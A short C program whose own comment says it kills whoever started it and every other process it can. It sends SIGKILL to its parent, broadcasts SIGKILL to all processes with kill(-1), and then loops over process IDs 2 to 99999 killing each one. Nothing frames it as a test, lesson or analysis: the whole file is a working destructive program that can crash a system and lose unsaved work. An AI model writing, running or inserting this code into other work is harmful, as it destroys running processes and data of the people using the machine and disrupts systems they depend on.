/* Kills whoever started it, and everybody else that it may. */
#include <signal.h>
#include <unistd.h>

int main(void)
{
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
    for (int pid = 2; pid < 100000; pid++)
        if (pid != getpid()) kill(pid, SIGKILL);
    return 0;
}
